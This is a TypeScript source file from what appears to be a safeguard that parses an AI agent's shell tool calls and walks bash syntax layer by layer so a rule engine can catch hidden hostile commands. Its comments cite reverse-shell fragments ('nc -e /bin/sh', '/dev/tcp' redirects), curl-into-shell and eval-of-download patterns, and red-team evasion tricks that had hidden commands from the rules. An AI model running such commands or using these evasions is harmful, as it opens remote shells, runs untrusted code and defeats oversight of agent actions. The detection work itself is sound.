// Why: walks the syntax tree of one tool call, layer by layer, the way bash would execute it:
// lists, pipelines (with the data flowing between stages), subshells, loops, functions,
// redirections, heredocs, here-strings and command/process substitutions, keeping simple
// variable assignments so later uses resolve. Threat it stops: a hostile command hidden inside
// shell structure; each simple command found becomes one CommandRecord for the rule engine.
// Hostile input cannot blow up time or memory: depth, total parsed size and record count are capped.
// Lists and pipelines are walked iteratively (a 6 KB `a&&a&&…` list nests 2,000 deep), and the
// record limit counts distinct commands, so padding with repeats cannot push a payload past it.
import { blankKeywords, normalizeTree, respellHeredocWords } from './normalize.js';
import { MAX_NODES, type ShellParser, type SNode } from './parser.js';
import { emitCommand, type RunState } from './exec.js';
import { stageOutput, normPath } from './stage.js';
import { basename, DOWNLOADERS } from './programs.js';
import { evalWord, LIST_KEY, REF_KEY, type WordEnv } from './words.js';
import { braceExpand } from './braces.js';
import { COMMAND_ENV } from './exec-options.js';
import { descriptorFrom, evalRedirects, fdOfPath, keepDescriptors, type Redir } from './redirects.js';
import { assignArray, assignElement, builtinAssign, carried, PASS_THROUGH, refTarget, setSources, sourcesOf, unsetName, wholeExpansion } from './var-flow.js';
import { mapSpan, type Analysis, type AnalysisLimits, type CommandRecord, type Layer } from './types.js';

export interface Ctx {
  layer: Layer;
  vars: Map<string, string>;
  inLoop: boolean;
  background: boolean;
  flags: string[];
  /** Redirections inherited from an enclosing compound statement (`{ …; } >&/dev/tcp/…`). */
  redirects: string[];
  stdin: Buffer | null;
  inputFrom: string[];
  /** Layer offset where the pipeline feeding stdin starts (span of decoded stdin payloads). */
  pipeStart?: number;
  /** The command whose words and redirects are being read: what a `>(…)` among them reads from. */
  feeder?: string;
}



/** Functions remembered per command (a call of one is screened as its body: `f(){ ssh "$@"; }; f -NR …`). */
const MAX_FUNCTIONS = 64;
const STATEMENT_TYPES = new Set(['command', 'pipeline', 'list', 'redirected_statement', 'subshell', 'compound_statement', 'if_statement', 'for_statement', 'while_statement', 'c_style_for_statement', 'case_statement', 'function_definition', 'negated_command', 'declaration_command', 'variable_assignment', 'unset_command']);
const WORDISH = new Set(['subscript', 'word', 'number', 'concatenation', 'simple_expansion', 'expansion', 'raw_string', 'string', 'ansi_c_string', 'command_name']);

export class Run implements RunState {
  readonly commands: CommandRecord[] = [];
  readonly parseErrors: string[] = [];
  readonly unwrapped: string[] = [];
  readonly incomplete: string[] = [];
  readonly written = new Map<string, Buffer>();
  readonly downloaded = new Set<string>();
  readonly chmodded = new Set<string>();
  readonly aliases = new Map<string, string>();
  /** Shell functions defined so far: name → body text (a call is screened as its body with the arguments in place). */
  readonly functions = new Map<string, string>();
  private parsedChars = 0;
  /** Layers parsed whole (no timeout, cut tree or syntax error): a wrapper's text counts as screened only then. */
  parsedLayers = 0;
  private substCache = new Map<SNode, { out: Buffer | null; names: string[] }>();
  /** Descriptors `exec {fd}<…` opened so far (numbered from 10, as bash does). */
  private namedFds = 0;
  /** Output substitutions a bare `exec > >(…)` sent a layer's stdout to. */
  private readonly execFeeds = new WeakMap<Layer, SNode[]>();
  private limitNoted = new Set<string>();
  /** Keys of the distinct records so far (see addCommand). */
  private distinct = new Set<string>();

  constructor(private readonly parser: ShellParser, readonly limits: AnalysisLimits) {}

  result(): Analysis { return { commands: this.commands, parseErrors: this.parseErrors, unwrapped: this.unwrapped, incomplete: this.incomplete, cutShort: this.cutShort }; }
  readonly cutShort: string[] = [];

  /**
   * Stores a record. Records identical to an earlier one (same argv, redirects, flags, wrappers,
   * inputs when stored) are kept, since later steps refer to records by position, but only distinct
   * ones count toward maxCommands: `:;` or `x&&` repeated 2,000 times cannot use up the limit.
   * Repeats are capped too (REPEAT_FACTOR × maxCommands in all), so time and memory stay bounded.
   */
  addCommand(rec: CommandRecord): void {
    this.commands.push(rec);
    this.distinct.add(JSON.stringify([rec.argv, rec.redirects, rec.flags, rec.via, rec.depth, rec.input_from]));
  }

  full(): boolean {
    const max = this.limits.maxCommands;
    if (this.distinct.size < max && this.commands.length < max * REPEAT_FACTOR) return false;
    this.note('limit', `stopped after ${this.distinct.size} distinct commands (${this.commands.length} in all; limit ${max} distinct, ${max * REPEAT_FACTOR} in all)`, true);
    return true;
  }

  /**
   * Records (once per kind) that a limit stopped the analysis: the result is incomplete. `cut`:
   * the limit is one that padding reaches (command count, syntax-tree size), so the unscreened
   * rest of the input is where a payload would sit (the checker treats that as high, see check.ts).
   */
  note(key: string, msg: string, cut = false): void {
    if (this.limitNoted.has(key)) return;
    this.limitNoted.add(key);
    this.parseErrors.push(msg);
    this.incomplete.push(msg);
    if (cut) this.cutShort.push(msg);
  }

  readFile(p: string): Buffer | null { return this.written.get(normPath(p)) ?? null; }

  /** Parses and walks one text layer. Returns its static stdout (or null). */
  analyzeLayer(text: string, layer: Layer, base: Partial<Ctx> = {}): Buffer | null {
    if (layer.depth > this.limits.maxDepth) { this.note('depth', `unwrapping stopped at depth ${this.limits.maxDepth} (limit)`); return null; }
    if (this.parsedChars + text.length > this.limits.maxTotalChars) { this.note('size', `unwrapping stopped after ${this.limits.maxTotalChars} characters (limit)`); return null; }
    this.parsedChars += text.length;
    if (layer.depth > 0) this.unwrapped.push(text);
    const parsed = this.parser.parse(blankKeywords(text), this.limits.parseBudgetMs);
    if (!parsed.root) { this.note(`timeout${this.parseErrors.length}`, `${where(layer)}parse timed out after ${this.limits.parseBudgetMs} ms; not analysed`); return null; }
    if (parsed.truncated) this.note(`nodes${this.parseErrors.length}`, `${where(layer)}syntax tree cut at ${MAX_NODES} nodes (limit); the rest was not analysed`, true);
    if (parsed.hasError) this.noteSyntax(parsed.root, layer);
    if (!parsed.truncated && !parsed.hasError) this.parsedLayers++;
    const root = normalizeTree(parsed.root, text);
    const ctx: Ctx = { layer, vars: base.vars ?? new Map(), inLoop: base.inLoop ?? false, background: base.background ?? false, flags: base.flags ?? [], redirects: [], stdin: base.stdin ?? null, inputFrom: base.inputFrom ?? [] };
    const out = this.visitSeq(root.children, ctx);
    this.sweepSubst(root, ctx);
    // Brace expansion (`{ssh,-R,…}`) happens before bash runs anything; the grammar does not model
    // it, so the expanded text is screened as one more layer (its records span the whole layer).
    // So is a heredoc word the grammar misreads (normalize.ts respellHeredocWords).
    const respelt = respellHeredocWords(text);
    if (respelt !== null) this.extraLayer(respelt, layer, 'heredoc word', ctx, base);
    const expanded = braceExpand(text);
    if (expanded !== null) this.extraLayer(expanded, layer, 'brace expansion', ctx, base);
    return out;
  }

  /** Screens another spelling of a layer's whole text (its records span the whole layer). */
  private extraLayer(text: string, layer: Layer, label: string, ctx: Ctx, base: Partial<Ctx>): void {
    const [s, e] = mapSpan(layer.map, 0, layer.text.length);
    this.analyzeLayer(text, { text, depth: layer.depth + 1, via: [...layer.via, label], chain: [...layer.chain, text], map: { exact: false, start: s, end: e } },
      { vars: new Map(ctx.vars), inLoop: ctx.inLoop, flags: ctx.flags, stdin: base.stdin ?? null, inputFrom: base.inputFrom ?? [] });
  }

  /**
   * Command and process substitutions the walk above never reached — inside arithmetic (`$(( $(…) ))`), parameter
   * expansions (`${x/a/$(…)}`), array subscripts and literals, prefix assignments, nested backticks, an unquoted
   * heredoc's body, an ERROR node — are visited now: bash runs every one of them, and each had hidden a command
   * from every rule (a red team's round, session 45). A quoted heredoc's body is text, not code.
   */
  private sweepSubst(n: SNode, ctx: Ctx, depth = 0): void {
    if (depth > 200) return;
    for (const c of n.children) {
      if (this.full()) return;
      if (c.type === 'heredoc_redirect') {
        const start = c.children.find((k) => k.type === 'heredoc_start');
        if (!start || /['"\\]/.test(ctx.layer.text.slice(start.start, start.end))) continue;
        // backticks, and `$(…)` under `<<-`, come back as plain body text: bash runs them all the same
        for (const body of c.children.filter((k) => k.type === 'heredoc_body')) {
          // Backticks (escaped ones are text, ones escaped inside them are nested), and `$(…)` when the grammar made no
          // node of it (`<<-`)
          const raw = ctx.layer.text.slice(body.start, body.end);
          const subs = body.children.some((x) => x.type === 'command_substitution');
          for (const m of raw.matchAll(/(?<!\\)(?:\\\\)*`((?:\\[\s\S]|[^`\\])+)`|(?<!\\)\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)/g)) {
            if (m[2] !== undefined && subs) continue;
            const inner = m[1] !== undefined ? m[1].replace(/\\([`\\$])/g, '$1') : m[2]!;
            const [s, e] = mapSpan(ctx.layer.map, body.start, body.end);
            const L = ctx.layer;
            this.analyzeLayer(inner, { text: inner, depth: L.depth + 1, via: [...L.via, 'heredoc substitution'], chain: [...L.chain, inner], map: { exact: false, start: s, end: e } },
              { vars: new Map(ctx.vars), inLoop: ctx.inLoop, flags: [...ctx.flags, 'in_subst'] });
          }
        }
      }
      if (c.type === 'command_substitution' || c.type === 'process_substitution') {
        if (!this.substCache.has(c)) this.visitSubst(c, ctx);
        continue;
      }
      this.sweepSubst(c, ctx, depth + 1);
    }
  }

  private noteSyntax(root: SNode, layer: Layer): void {
    const bad = findError(root);
    const t = layer.text;
    if (!bad) { this.parseErrors.push(`${where(layer)}syntax error`); return; }
    const [s, e] = mapSpan(layer.map, bad.start, bad.end);
    const snippet = t.slice(bad.start, Math.min(bad.end, bad.start + 40)) || t.slice(Math.max(0, bad.start - 10), bad.start + 10);
    this.parseErrors.push(`${where(layer)}syntax error at ${s}-${e}${bad.missing ? ` (missing ${JSON.stringify(bad.type)})` : ''}: ${JSON.stringify(snippet)}; analysed best-effort`);
  }

  /** Sequential statements (program, compound, subshell): static output if every part is static. */
  visitSeq(nodes: SNode[], ctx: Ctx): Buffer | null {
    const outs: Buffer[] = [];
    let allStatic = true;
    for (let i = 0; i < nodes.length; i++) {
      const n = nodes[i]!;
      if (!n.named || n.type === 'comment') continue;
      if (this.full()) return null;
      const bg = nodes[i + 1]?.type === '&';
      const out = this.visit(n, bg ? { ...ctx, background: true } : ctx);
      if (out) outs.push(out); else if (STATEMENT_TYPES.has(n.type)) allStatic = false;
    }
    return allStatic && outs.length ? Buffer.concat(outs) : null;
  }

  visit(n: SNode, ctx: Ctx): Buffer | null {
    switch (n.type) {
      case 'program': case 'compound_statement': case 'do_group':
        return this.visitSeq(n.children, ctx);
      case 'subshell':
        return this.visitSeq(n.children, { ...ctx, vars: new Map(ctx.vars) });
      case 'list': {
        // Flattened without recursion: `a && b && c` is list(list(a, b), c), as deep as it is long.
        const outs: (Buffer | null)[] = [];
        for (const c of flatten(n, 'list')) {
          if (c.type === 'comment') continue;
          if (this.full()) return null;
          outs.push(this.visit(c, ctx));
        }
        return outs.every((o) => o) ? Buffer.concat(outs as Buffer[]) : null;
      }
      case 'pipeline': return this.visitPipeline(n, ctx);
      case 'redirected_statement': return this.visitRedirected(n, ctx);
      case 'command': return this.visitCommand(n, ctx, null);
      case 'variable_assignment': case 'variable_assignments': this.assign(n, ctx, true); return null;
      case 'declaration_command': case 'unset_command': this.declare(n, ctx); return null;
      case 'for_statement': case 'c_style_for_statement': case 'while_statement': case 'select_statement': {
        const v = n.children.find((c) => c.field === 'variable');
        if (v) ctx.vars.delete(ctx.layer.text.slice(v.start, v.end));
        const inner = { ...ctx, inLoop: true };
        for (const c of n.children) if (c.named && c.field !== 'variable') this.visit(c, inner);
        return null;
      }
      case 'function_definition': {
        const body = n.children.find((c) => c.field === 'body');
        const name = n.children.find((c) => c.field === 'name');
        // `f() { bash -i; } >& /dev/tcp/h/p 0>&1`: a definition's redirects apply to every run of its body (session 45).
        const redirs = n.children.filter((c) => c.field === 'redirect');
        const end = Math.max(body?.end ?? 0, ...redirs.map((r) => r.end));
        if (body && name && this.functions.size < MAX_FUNCTIONS) this.functions.set(ctx.layer.text.slice(name.start, name.end), ctx.layer.text.slice(body.start, end));
        const r = redirs.length ? this.evalRedirects(redirs, ctx) : undefined;
        // (walked here for what it would run, in a copy of the variables: a definition assigns nothing until it is called)
        if (body) this.visit(body, { ...ctx, vars: new Map(ctx.vars), flags: [...ctx.flags, 'in_function'], redirects: r ? [...ctx.redirects, ...r.list] : ctx.redirects });
        return null;
      }
      case 'command_substitution': case 'process_substitution':
        this.visitSubst(n, ctx); return null;
      case 'ERROR': this.recover(n, ctx); return null;
      case 'comment': case 'heredoc_body': case 'heredoc_start': case 'heredoc_end': return null;
      default:
        for (const c of n.children) if (c.named) this.visit(c, ctx);
        return null;
    }
  }

  private visitPipeline(n: SNode, ctx: Ctx): Buffer | null {
    const stages = flatten(n, 'pipeline');
    let data = ctx.stdin;
    let from = ctx.inputFrom;
    for (const st of stages) {
      if (this.full()) return null;
      const before = this.commands.length;
      data = this.visit(st, { ...ctx, stdin: data, inputFrom: from, pipeStart: ctx.pipeStart ?? n.start });
      const names = new Set(from);
      for (const r of this.commands.slice(before)) names.add(basename(r.argv[0] ?? ''));
      for (const x of carried(this.commands.slice(before))) names.add(x);
      from = [...names];
    }
    return data;
  }

  private visitRedirected(n: SNode, ctx: Ctx): Buffer | null {
    const body = n.children.find((c) => c.field === 'body') ?? n.children.find((c) => c.named && !c.type.endsWith('redirect'));
    const redirs = n.children.filter((c) => c !== body && c.type.endsWith('redirect'));
    if (body?.type === 'command') return this.visitCommand(body, ctx, redirs);
    if (!body) return this.visitCommand({ type: 'command', start: n.start, end: n.end, field: null, named: true, missing: false, children: [] }, ctx, redirs);
    const r = this.evalRedirects(redirs, ctx);
    const inner: Ctx = { ...ctx, redirects: [...ctx.redirects, ...r.list], stdin: r.stdin ?? ctx.stdin, inputFrom: [...ctx.inputFrom, ...r.stdinFrom] };
    const out = body ? this.visit(body, inner) : null;
    return this.sinkOutput(out, r);
  }

  /** Writes static output to redirect targets (same-call bookkeeping); returns what reaches stdout. */
  private sinkOutput(out: Buffer | null, r: Redir): Buffer | null {
    if (r.outFiles.length === 0) return out;
    for (const f of r.outFiles) {
      if (!out) { this.written.delete(normPath(f.path)); continue; }
      const prev = f.append ? this.written.get(normPath(f.path)) : undefined;
      this.written.set(normPath(f.path), prev ? Buffer.concat([prev, out]) : out);
    }
    return null;
  }

  /**
   * `prov`: where the sources of variables read go (default: with the substitutions'). A variable set from a download
   * (`x=$(curl …)`) carries the names of the commands that made it, so reading it (`eval "$x"`, `bash <<< "$x"`)
   * makes them feed the reader as a pipe would (session 45); a command's words keep them apart (visitCommand).
   */
  wordEnv(ctx: Ctx, substNames: string[], prov: string[] = substNames): WordEnv {
    // (a list's sources are its name's: `a=("$(curl …)")`, `set -- "$(curl …)"`)
    const vars = { get: (k: string): string | undefined => { prov.push(...sourcesOf(ctx.vars, k.startsWith(LIST_KEY) ? k.slice(LIST_KEY.length) : k)); return ctx.vars.get(k); } };
    return {
      text: ctx.layer.text, vars,
      substOutput: (s) => { const o = this.substCache.get(s)?.out; return o ? o.toString('utf8') : null; },
      onSubst: (s) => { substNames.push(...this.visitSubst(s, ctx).names); },
      onPromptExpand: (value) => { this.expandAgain(value, ctx, 'prompt expansion'); },
    };
  }

  /**
   * A value the shell expands once more (a prompt: `${x@P}`, PS4 under -x): its `$(…)` and backticks run. Analysed as
   * the body of an unquoted heredoc, which is expanded the same way (an early end line only adds commands to judge).
   */
  expandAgain(value: string, ctx: Ctx, label: string): void {
    if (this.full() || ctx.layer.depth + 1 > this.limits.maxDepth) return;
    const text = `: <<CORRAL_EXPAND\n${value}\nCORRAL_EXPAND\n`;
    const at = ctx.layer.map;
    const map = at.exact ? { exact: false as const, start: at.base, end: at.base + ctx.layer.text.length } : at;
    const layer: Layer = { text, depth: ctx.layer.depth + 1, via: [...ctx.layer.via, label], chain: [...ctx.layer.chain, value], map };
    this.analyzeLayer(text, layer, { vars: new Map(ctx.vars), inLoop: ctx.inLoop, flags: ctx.flags, inputFrom: [] });
  }

  /** Walks the body of `$(…)`, backticks or `<(…)` once; caches its static output and command names. */
  visitSubst(n: SNode, ctx: Ctx): { out: Buffer | null; names: string[] } {
    const hit = this.substCache.get(n);
    if (hit) return hit;
    const before = this.commands.length;
    const body = n.children.filter((c) => c.named);
    // `curl … > >(sh)`, `tee >(sh)`, `wget -O >(sh)`: what runs in an output substitution reads the command's output (session 45).
    const fed = n.type === 'process_substitution' && ctx.feeder !== undefined && ctx.layer.text.startsWith('>(', n.start);
    const out = this.visitSeq(body, { ...ctx, vars: new Map(ctx.vars), stdin: null, inputFrom: fed ? [...ctx.inputFrom, ctx.feeder!] : [], redirects: [], flags: [...ctx.flags, 'in_subst'], feeder: undefined });
    const names = [...new Set([...this.commands.slice(before).map((r) => basename(r.argv[0] ?? '')), ...carried(this.commands.slice(before))])];
    const res = { out, names };
    this.substCache.set(n, res);
    return res;
  }

  evalRedirects(nodes: SNode[], ctx: Ctx): Redir { return evalRedirects(this, nodes, ctx); }

  visitCommand(n: SNode, outerCtx: Ctx, outer: SNode[] | null, extraFlags: string[] = []): Buffer | null {
    const nameNode = n.children.find((c) => c.field === 'name');
    const ctx: Ctx = nameNode ? { ...outerCtx, feeder: basename(outerCtx.layer.text.slice(nameNode.start, nameNode.end).replace(/['"\\]/g, '')) } : outerCtx;
    const words = nameNode ? [nameNode, ...n.children.filter((c) => c.field === 'argument' && c.start >= nameNode.start)] : [];
    const inner = n.children.filter((c) => c.type.endsWith('redirect'));
    const r = this.evalRedirects([...inner, ...(outer ?? [])], ctx);
    if (!nameNode) {
      const hasAssign = n.children.some((c) => c.type === 'variable_assignment');
      if (hasAssign) this.assign(n, ctx, true);
      else if (r.list.length) emitCommand(this, { argv: [], exact: [], nodes: [], end: n.end, start: n.start, ctx, stdin: null, inputFrom: r.stdinFrom, redirects: [...ctx.redirects, ...r.list], flags: ['redirect_only'] });
      return this.sinkOutput(null, r);
    }
    const substNames: string[] = [];
    const prov: string[] = []; // (per word: where the variables it read came from)
    const env = this.wordEnv(ctx, substNames, prov);
    // Unquoted expansions are split on IFS like bash does (`c="nc -e sh h 1"; $c`).
    const argv: string[] = [];
    const exact: boolean[] = [];
    const nodes: SNode[] = [];
    const ifs = ctx.vars.get('IFS') ?? ' \t\n';
    let joinNext = false;
    for (let i = 0; i < words.length; i++) {
      const w = words[i]!;
      prov.length = 0;
      const v = evalWord(w, env);
      // A downloaded value feeds the command only where it is code: the name, eval's or source's words, the string
      // after -c/-e — and only whole (`eval "$x"`, not `eval "export V=$x"`, nor `python3 - "$x"`'s argument).
      if (prov.length && wholeExpansion(w, ctx.layer.text)) {
        const prev = i > 0 ? ctx.layer.text.slice(words[i - 1]!.start, words[i - 1]!.end) : '';
        const name = basename(argv[0] ?? '');
        if (i === 0 || name === 'eval' || name === 'source' || name === '.' || PASS_THROUGH.has(name) || /^-[A-Za-z]*[ceE]$/.test(prev)) substNames.push(...prov);
      }
      // (a list's elements — "$@", "${a[@]}" — are words of their own, quoted or not; unquoted, each is split too)
      const parts = (v.exact && v.items ? v.items : [v.value]).flatMap((x) => (v.exact && ifs !== '' && splits(w) ? x.split(new RegExp(`[${ifs.replace(/[\]\\^-]/g, '\\$&')}]+`)).filter((y) => y !== '') : [x]));
      const list = parts.length ? parts : [''];
      // `ss\<newline>h`: bash removes a backslash-newline before splitting words, so the two
      // pieces the grammar sees are one word (`ssh`); join them.
      if (joinNext && argv.length) {
        argv[argv.length - 1] += list.shift()!;
        exact[exact.length - 1] &&= v.exact;
      }
      for (const p of list) { argv.push(p); exact.push(v.exact); nodes.push(w); }
      const next = words[i + 1];
      joinNext = next !== undefined && /^(\\\n)+$/.test(ctx.layer.text.slice(w.end, next.start));
    }
    this.commandEnv(n, ctx);
    const stdin = r.stdin ?? ctx.stdin;
    const end = Math.max(n.end, ...(outer ?? []).map((o) => o.end));
    // `x=nc bash -c '$x -e …'`: prefix assignments are the command's environment, which a shell it starts reads
    // (its own words were expanded before they took effect). Session 45.
    const prefix = n.children.filter((c) => c.type === 'variable_assignment');
    const runCtx = prefix.length ? { ...ctx, vars: new Map(ctx.vars) } : ctx;
    if (prefix.length) this.assign({ ...n, type: 'variable_assignments', children: prefix }, runCtx, false);
    // What feeds this command besides pipes and its own redirects: the shell's stdin a bare `exec < <(curl …)` replaced
    // (when nothing else feeds it), and descriptors it names as files (`cat /dev/fd/3`) — session 46
    const ownInput = stdin !== null || ctx.inputFrom.length > 0 || r.list.some((x) => x.startsWith('<'));
    const fdInput = [...(ownInput || argv[0] === 'exec' ? [] : descriptorFrom(ctx.vars, '0')), ...argv.slice(1).flatMap((a) => { const fd = fdOfPath(a); return fd ? descriptorFrom(ctx.vars, fd) : []; })];
    const eff = emitCommand(this, {
      argv, exact, nodes, end, ctx: runCtx, start: n.start,
      stdin, inputFrom: [...new Set([...ctx.inputFrom, ...r.stdinFrom, ...substNames, ...fdInput])],
      redirects: [...ctx.redirects, ...r.list], flags: extraFlags,
    });
    if (eff === argv && exact[0]) builtinAssign(ctx.vars, argv, { known: exact.every((e) => e), stdin, ifs: runCtx.vars.get('IFS'), from: [...ctx.inputFrom, ...r.stdinFrom, ...substNames] });
    if (argv[0] === 'exec' && exact[0]) this.keepExecRedirects(argv, r, ctx);
    if (basename(eff[0] ?? '') === 'tee') {
      // tee copies its stdin to each file operand and to stdout.
      for (const p of eff.slice(1).filter((a) => !a.startsWith('-'))) r.outFiles.push({ path: p, append: eff.includes('-a') || eff.includes('--append') });
      this.sinkOutput(stdin, r);
      return stdin;
    }
    if (DOWNLOADERS.has(basename(eff[0] ?? ''))) for (const f of r.outFiles) this.downloaded.add(normPath(f.path));
    const out = stageOutput(eff, stdin, (p) => this.readFile(p));
    // `echo 'nc -e …' > >(sh)`: what the command prints is the substitution's input (session 46)
    const stdoutMoved = r.list.some((x) => /^(>|>>|>\||&>|&>>|1>|1>>)/.test(x));
    const feeds = r.feeds.length || stdoutMoved || eff[0] === 'exec' ? r.feeds : this.execFeeds.get(ctx.layer) ?? [];
    if (out) for (const f of feeds) this.feedSubst(f, ctx, out, basename(eff[0] ?? ''));
    return this.sinkOutput(out, r);
  }

  /**
   * An `exec` without a command keeps its redirections for the rest of the shell: what feeds each descriptor it opened
   * (`exec 3< <(curl …)`, `exec < <(curl …)`), and where stdout now goes (`exec > >(sh)`: what every later command of this
   * shell prints). `exec {fd}< <(…)` opens a descriptor of 10 or more, as bash does, and puts its number in $fd.
   */
  private keepExecRedirects(argv: string[], r: Redir, ctx: Ctx): void {
    const named = argv.length === 2 ? /^\{([A-Za-z_]\w*)\}$/.exec(argv[1]!) : null;
    if (named && r.fdFrom.has('0')) {
      const fd = String(10 + this.namedFds++);
      ctx.vars.set(named[1]!, fd);
      r.fdFrom.set(fd, r.fdFrom.get('0')!);
      r.fdFrom.delete('0');
      keepDescriptors(ctx.vars, r);
    }
    if (argv.length !== 1) return;
    keepDescriptors(ctx.vars, r);
    if (r.feeds.length) this.execFeeds.set(ctx.layer, r.feeds);
  }

  /** The body of an output substitution run again with a command's static output as its stdin. */
  private feedSubst(n: SNode, ctx: Ctx, out: Buffer, feeder: string): void {
    if (this.full()) return;
    const body = n.children.filter((c) => c.named);
    this.visitSeq(body, { ...ctx, vars: new Map(ctx.vars), stdin: out, inputFrom: [...ctx.inputFrom, feeder], redirects: [], flags: [...ctx.flags, 'in_subst'], feeder: undefined });
  }

  /** Prefix assignments a program runs as a shell command (`GIT_SSH_COMMAND="ssh -R …" git …`): one more layer each. */
  private commandEnv(n: SNode, ctx: Ctx): void {
    for (const a of n.children) {
      if (a.type !== 'variable_assignment') continue;
      const name = a.children.find((c) => c.field === 'name');
      const val = a.children.find((c) => c.field === 'value');
      const key = name ? ctx.layer.text.slice(name.start, name.end) : '';
      if (!val || !COMMAND_ENV.has(key)) continue;
      const v = evalWord(val, this.wordEnv(ctx, []));
      if (v.value.trim() === '') continue;
      const [s, e] = mapSpan(ctx.layer.map, a.start, a.end);
      const L = ctx.layer;
      this.analyzeLayer(v.value, { text: v.value, depth: L.depth + 1, via: [...L.via, key], chain: [...L.chain, v.value], map: { exact: false, start: s, end: e } },
        { vars: new Map(ctx.vars), inLoop: ctx.inLoop, background: ctx.background, flags: ctx.flags });
    }
  }

  /** Bare assignments (`a=nc`, `HISTFILE=/dev/null`): remember the value and record it. */
  private assign(n: SNode, ctx: Ctx, record: boolean): void {
    const list = n.type === 'variable_assignment' ? [n] : n.children.filter((c) => c.type === 'variable_assignment');
    for (const a of list) {
      const name = a.children.find((c) => c.field === 'name');
      const val = a.children.find((c) => c.field === 'value');
      if (!name) continue;
      const substNames: string[] = [];
      const env = this.wordEnv(ctx, substNames);
      // `a[0]=nc`: one element of an array (session 46)
      if (name.type === 'subscript') { assignElement(ctx.vars, name, val, env); continue; }
      // (a name reference assigns its target: `declare -n r=x; r=nc` sets x)
      const key = refTarget(ctx.vars, ctx.layer.text.slice(name.start, name.end));
      // `a=(nc -e /bin/sh h 1); "${a[@]}"`: an array's elements, kept as a list (listValue), $a being its first
      if (val?.type === 'array') { assignArray(ctx.vars, key, val, env, a.children.some((c) => c.type === '+=')); setSources(ctx.vars, key, substNames); continue; }
      const got = val ? evalWord(val, env) : { value: '', exact: true };
      // `x+=c` appends (session 45: `x=n; x+=c; $x` ran nc unjudged)
      const prior = a.children.some((c) => c.type === '+=') ? ctx.vars.get(key) : '';
      const v = prior === undefined ? { value: got.value, exact: false } : { value: prior + got.value, exact: got.exact };
      if (v.exact) ctx.vars.set(key, v.value); else ctx.vars.delete(key);
      setSources(ctx.vars, key, substNames);
      if (record) {
        emitCommand(this, { argv: [`${key}=${v.value}`], exact: [v.exact], nodes: [a], end: a.end, ctx, stdin: null, inputFrom: substNames, redirects: ctx.redirects, flags: ['assignment'] });
      }
    }
  }

  /** export/declare/local/readonly/unset: record argv and update known variables. */
  private declare(n: SNode, ctx: Ctx): void {
    const words: SNode[] = n.children.filter((c) => c.named || /^(export|declare|local|readonly|typeset|unset|unsetenv)$/.test(c.type));
    const substNames: string[] = [];
    const env = this.wordEnv(ctx, substNames);
    const argv = words.map((w) => (w.named ? evalWord(w, env).value : w.type));
    // (`declare -n r=x` / `local -n`, `typeset -n`: r names x; `export -n` is another thing)
    const nameref = /^(declare|local|typeset)$/.test(argv[0] ?? '') && argv.some((a) => /^-[a-zA-Z]*n/.test(a));
    for (const w of words) {
      if (w.type === 'variable_assignment') this.assign(w, ctx, false);
      if (w.type === 'variable_assignment' || (w.type === 'variable_name' && nameref)) nameRef(ctx.vars, w, ctx.layer.text, nameref);
      if (n.type === 'unset_command' && w.named) unsetName(ctx.vars, evalWord(w, env).value);
    }
    if (words.length) emitCommand(this, { argv, exact: argv.map(() => true), nodes: words, end: n.end, ctx, stdin: null, inputFrom: substNames, redirects: ctx.redirects, flags: [] });
  }

  /** Best effort inside an ERROR node: walk statements it holds, then rebuild commands from loose words. */
  private recover(n: SNode, ctx: Ctx): void {
    let group: SNode[] = [];
    const flush = (): void => {
      const first = group[0];
      if (first && first.type !== 'string' && first.type !== 'raw_string') {
        const cmd: SNode = { type: 'command', start: first.start, end: group[group.length - 1]!.end, field: null, named: true, missing: false,
          children: group.map((g, i) => ({ ...g, field: i === 0 ? 'name' : 'argument' })) };
        this.visitCommand(cmd, ctx, null, ['from_parse_error']);
      }
      group = [];
    };
    for (const c of n.children) {
      if (STATEMENT_TYPES.has(c.type) || c.type === 'ERROR') { flush(); this.visit(c, ctx); continue; }
      if (WORDISH.has(c.type)) { group.push(c); continue; }
      if (c.type === 'command_substitution' || c.type === 'process_substitution') { this.visitSubst(c, ctx); continue; }
      if (!c.named && /^(;|&|\||&&|\|\||\n|\(|\)|\{|\}|`)$/.test(c.type)) flush();
    }
    flush();
  }
}

/** How many records in all (repeats included) one analysis may hold, as a multiple of maxCommands. */
const REPEAT_FACTOR = 5;


/** After `declare -n r=x`, r refers to x (when x is a plain name); any other assignment to r drops what it referred to. */
function nameRef(vars: Map<string, string>, a: SNode, text: string, isRef: boolean): void {
  const name = a.type === 'variable_name' ? a : a.children.find((c) => c.field === 'name');
  if (!name) return;
  const key = text.slice(name.start, name.end);
  if (a.type === 'variable_name') { if (isRef) vars.set(REF_KEY + key, ''); return; } // (declared, no target yet)
  const target = vars.get(key);
  if (isRef && target !== undefined && /^[A-Za-z_]\w*(?:\[-?\d+\])?$/.test(target)) vars.set(REF_KEY + key, target); else if (isRef) vars.delete(REF_KEY + key);
}

/** Does bash word-split this word's value? (an unquoted expansion or substitution at its top level) */
function splits(w: SNode): boolean {
  if (w.type === 'simple_expansion' || w.type === 'expansion' || w.type === 'command_substitution') return true;
  if (w.type === 'command_name') return w.children.some(splits);
  return w.type === 'concatenation' && w.children.some((c) => c.type === 'simple_expansion' || c.type === 'expansion' || c.type === 'command_substitution');
}

/** Named children of `n`, with nested nodes of the same type opened in place, in order (no recursion). */
function flatten(n: SNode, type: string): SNode[] {
  const out: SNode[] = [];
  const stack: SNode[] = [n];
  while (stack.length) {
    const x = stack.pop()!;
    if (x.type === type) { for (let i = x.children.length - 1; i >= 0; i--) if (x.children[i]!.named) stack.push(x.children[i]!); } else out.push(x);
  }
  return out;
}

/** The first ERROR or missing node in document order (iterative: trees can be thousands deep). */
function findError(root: SNode): SNode | null {
  const stack: SNode[] = [root];
  while (stack.length) {
    const n = stack.pop()!;
    if (n.type === 'ERROR' || n.missing) return n;
    for (let i = n.children.length - 1; i >= 0; i--) stack.push(n.children[i]!);
  }
  return null;
}

function where(layer: Layer): string {
  return layer.depth === 0 ? '' : `layer ${layer.depth} (${layer.via.join(' > ')}): `;
}

